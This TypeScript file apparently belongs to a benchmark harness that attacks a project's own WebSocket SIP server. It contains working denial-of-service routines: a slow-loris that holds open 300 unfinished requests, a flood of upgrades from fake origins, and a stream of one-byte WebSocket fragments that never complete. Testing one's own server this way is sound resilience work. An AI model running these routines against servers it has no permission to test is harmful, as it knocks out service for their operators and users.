// Attacks before SIP: unfinished requests, upgrades from foreign pages, frames in many fragments.

import { randomBytes } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { askToken, ORIGIN, openPage } from '../page.ts';
import { pace } from './pace.ts';
import type { BenchAttack } from './targets.ts';

const HALF_REQUESTS = 300;

/** Slow-loris: connections that send a header line at intervals, and never the empty line. */
export const halfRequests: BenchAttack = async ({ url }, from, ms, { perSecond = 100 } = {}) => {
  const sockets = new Array<Socket | undefined>(HALF_REQUESTS).fill(undefined);
  const attempts = await pace(perSecond, ms, index => {
    const place = index % HALF_REQUESTS;
    const socket = sockets[place];
    if (socket === undefined || socket.destroyed) {
      sockets[place] = open(url, from);
      sockets[place].write(`GET /sip HTTP/1.1\r\nHost: ${new URL(url).host}\r\n`);
    } else socket.write(`X-${index}: ${index}\r\n`);
  });
  for (const socket of sockets) socket?.destroy();
  return attempts;
};

export const hopefulUpgrades: BenchAttack = async ({ url }, from, ms, { perSecond = 100 } = {}) =>
  await pace(perSecond, ms, index => {
    void openPage(url, { from, origin: `https://${index}.attacker.invalid` }).then(page => {
      page.on('error', () => {});
      page.on('open', () => page.terminate());
    });
  });

/** One byte a fragment, never the last one (GHSA-96hv-2xvq-fx4p). */
export const tinyFragments: BenchAttack = async ({ url, uri }, from, ms, { perSecond = 1_000 } = {}) => {
  const mask = randomBytes(4);
  const fragment = (first: boolean) =>
    Buffer.concat([Buffer.from([first ? 0x01 : 0x00, 0x81]), mask, Buffer.from([0x41 ^ mask[0]!])]);
  const sockets = new Array<Socket | 'coming' | undefined>(10).fill(undefined);
  const attempts = await pace(perSecond, ms, index => {
    const place = index % sockets.length;
    const socket = sockets[place];
    if (socket === 'coming') return;
    if (socket !== undefined && !socket.destroyed) {
      socket.write(fragment(false));
      return;
    }
    sockets[place] = 'coming';
    askToken(url, uri, ORIGIN, from).then(
      token => {
        const opened = open(url, from);
        opened.write(upgrade(url, token));
        opened.write(fragment(true));
        sockets[place] = opened;
      },
      () => {
        sockets[place] = undefined;
      },
    );
  });
  for (const socket of sockets) if (socket !== 'coming') socket?.destroy();
  return attempts;
};

export function open(url: string, from: string): Socket {
  const { hostname, port } = new URL(url);
  const socket = connect({ host: hostname, port: Number(port), localAddress: from });
  socket.on('error', () => {});
  socket.resume();
  return socket;
}

export function upgrade(url: string, token: string): string {
  return [
    'GET /sip HTTP/1.1',
    `Host: ${new URL(url).host}`,
    'Connection: Upgrade',
    'Upgrade: websocket',
    `Origin: ${ORIGIN}`,
    'Sec-WebSocket-Version: 13',
    `Sec-WebSocket-Key: ${randomBytes(16).toString('base64')}`,
    `Sec-WebSocket-Protocol: sip, token.${token}`,
    '',
    '',
  ].join('\r\n');
}
